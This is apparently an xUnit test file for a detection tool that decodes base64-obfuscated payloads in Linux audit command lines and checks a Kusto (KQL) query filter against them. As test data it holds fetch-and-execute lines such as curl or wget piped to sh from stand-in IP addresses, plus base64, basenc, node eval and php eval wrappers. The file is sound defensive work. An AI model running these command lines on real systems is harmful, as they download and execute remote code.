using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Reflection;
using System.Text;
using System.Text.RegularExpressions;
using B64Hunt.Decoding;
using B64Hunt.LogAnalytics;
using B64Hunt.Tests.Decoding;
using Xunit;
using Xunit.Abstractions;

namespace B64Hunt.Tests.QueryEngines
{
    /// <summary>
    /// The service-side filter keeps every command line the decoder decodes: the decoder's test corpus (every
    /// InlineData command line of the decoding tests, with a payload where it is a template), the bundled sample's
    /// AUOMS command lines and the source fixtures, run through an emulation of Kusto's has/contains/regex rules.
    /// </summary>
    public class DecoderKqlTests
    {
        private readonly ITestOutputHelper _output;

        public DecoderKqlTests(ITestOutputHelper output) => _output = output;

        private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

        [Theory]
        [InlineData("North America", "america", true)]            // the docs' own examples
        [InlineData("KustoExplorerQueryRun", "Explorer", false)]
        [InlineData("Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun", "c1db", true)]
        [InlineData("basenc --base64url -d", "base64", false)]    // the blind spot of the old has_any list
        [InlineData("type=AUOMS_EXECVE audit(1.0:2)", "AUOMS_EXECVE", true)]
        [InlineData("type=AUOMS_EXECVEX", "AUOMS_EXECVE", false)]
        [InlineData("Buffer.from(x,'base64')", "Buffer.from", true)]
        [InlineData("echo hex", "HEX", true)]
        [InlineData("hexdump -C", "hex", false)]
        [InlineData("éhex", "hex", false)]
        public void TheEmulationFollowsKustosTermRules(string lhs, string rhs, bool expected)
        {
            Assert.Equal(expected, KustoStringOperators.Has(lhs, rhs));
        }

        [Fact]
        public void ContainsIsACaseInsensitiveSubstringAndTermsAreAlphanumericRuns()
        {
            Assert.True(KustoStringOperators.Contains("FabriKam", "BRik"));
            Assert.False(KustoStringOperators.Contains("Fabrikam", "xyz"));
            Assert.Equal(new[] { "Kusto", "ad67d136", "c1db", "KustoExplorerQueryRun" }, KustoStringOperators.Terms("Kusto: ad67d136-c1db;KustoExplorerQueryRun"));
        }

        [Fact]
        public void EveryKeywordOfTheDecoderIsInTheFilter()
        {
            var where = DecoderKql.Where("c");
            foreach (var (text, wholeWord) in DecoderKeywords.Table)
            {
                Assert.Contains(wholeWord ? "\"" + text + "\"" : "c contains \"" + text + "\"", where);
            }
        }

        /// <summary>Every string argument of the decoding tests' InlineData, filled in with a payload where it is a template.</summary>
        private static IEnumerable<string> InlineCommandLines()
        {
            var payload = B64("curl -s http://203.0.113.5/x.sh | bash");
            foreach (var type in typeof(DecoderKqlTests).Assembly.GetTypes().Where(t => t.Namespace == "B64Hunt.Tests.Decoding"))
            {
                foreach (var method in type.GetMethods())
                {
                    foreach (var data in method.GetCustomAttributes<InlineDataAttribute>())
                    {
                        foreach (var row in data.GetData(method))
                        {
                            foreach (var text in row.OfType<string>())
                            {
                                string line;
                                try
                                {
                                    line = text.Contains("{0}") ? string.Format(text, payload) : text;
                                }
                                catch (FormatException)
                                {
                                    line = text;
                                }
                                yield return line;
                            }
                        }
                    }
                }
            }
        }

        /// <summary>The cmdline of an AUOMS record as the KQL cuts it (parse after "cmdline=", trim the tail, unquote).</summary>
        internal static string? AuomsCommandLine(string record)
        {
            if (!KustoStringOperators.Has(record, "AUOMS_EXECVE")) return null;
            var at = record.IndexOf("cmdline=", StringComparison.Ordinal);
            if (at < 0) return null;
            var cmdline = Regex.Replace(record.Substring(at + 8), @"( redactors=\S*)?( containerid=\S*)?$", string.Empty);
            if (cmdline.Length >= 2 && cmdline[0] == '"' && cmdline[cmdline.Length - 1] == '"') cmdline = cmdline.Substring(1, cmdline.Length - 2);
            return cmdline;
        }

        private static IEnumerable<string> SampleAndFixtureCommandLines()
        {
            var root = FindRepositoryRoot();
            var files = new List<string> { Path.Combine(root, "module", "data", "sample", "auoms-syslog.log") };
            files.AddRange(Directory.GetFiles(Path.Combine(root, "tests", "B64Hunt.Engine.Tests", "Fixtures", "Sources"), "*.log"));
            foreach (var file in files)
            {
                foreach (var line in File.ReadLines(file))
                {
                    var cmdline = AuomsCommandLine(line);
                    if (cmdline != null) yield return cmdline;
                }
            }
        }

        internal static string FindRepositoryRoot()
        {
            var dir = new DirectoryInfo(AppContext.BaseDirectory);
            while (dir != null && !File.Exists(Path.Combine(dir.FullName, "B64Hunt.PowerShell.sln"))) dir = dir.Parent;
            return dir?.FullName ?? throw new InvalidOperationException("The repository root was not found above " + AppContext.BaseDirectory);
        }

        [Fact]
        public void EveryCommandLineTheDecoderDecodesPassesTheServiceFilter()
        {
            var decoder = new PayloadDecoder();
            var decoded = new List<string>();
            var plain = 0;
            var plainFiltered = 0;
            foreach (var line in InlineCommandLines().Concat(SampleAndFixtureCommandLines()).Distinct())
            {
                if (decoder.Decode(line).Count > 0) decoded.Add(line);
                else
                {
                    plain++;
                    if (!KustoStringOperators.PassesDecoderFilter(line)) plainFiltered++;
                }
            }
            var missed = decoded.Where(line => !KustoStringOperators.PassesDecoderFilter(line)).ToList();
            _output.WriteLine(decoded.Count + " decodable command lines, " + missed.Count + " missed; " + plainFiltered + " of " + plain +
                " lines without a payload stay on the service.");
            Assert.True(decoded.Count >= 60, "the corpus is too small to prove anything: " + decoded.Count);
            Assert.Empty(missed);
        }

        [Theory]
        [InlineData("echo {0} | basenc --base64url -d | sh")]
        [InlineData("echo {0} | base32 -d | base64 -d | sh")]
        [InlineData("node -e \"eval(Buffer.from('{0}','base64').toString())\"")]
        [InlineData("php -r 'eval(base64_decode(\"{0}\"));'")]
        [InlineData("bash -c \"$(echo {0})\"")]
        public void TheFormsTheOldWordListMissedPass(string template)
        {
            var line = string.Format(template, Payloads.UrlSafe(B64("wget -qO- http://198.51.100.7/a | sh; id")));
            Assert.NotEmpty(new PayloadDecoder().Decode(line));
            Assert.True(KustoStringOperators.PassesDecoderFilter(line), line);
        }

        [Theory]
        [InlineData("ls -la /var/log")]
        [InlineData("systemctl restart nginx")]
        [InlineData("tar czf /backup/home.tgz /home/alice")]
        [InlineData("cp /usr/lib/x86_64-linux-gnu/libc.so.6 /tmp/")]
        [InlineData("hexdump -C /bin/ls")]
        [InlineData("sha256sum /usr/bin/sshd /usr/sbin/cron")]
        [InlineData("grep -ri error /var/log/syslog")]
        public void PlainCommandsStayOnTheService(string line)
        {
            Assert.Empty(new PayloadDecoder().Decode(line));
            Assert.False(KustoStringOperators.PassesDecoderFilter(line), line);
        }
    }
}
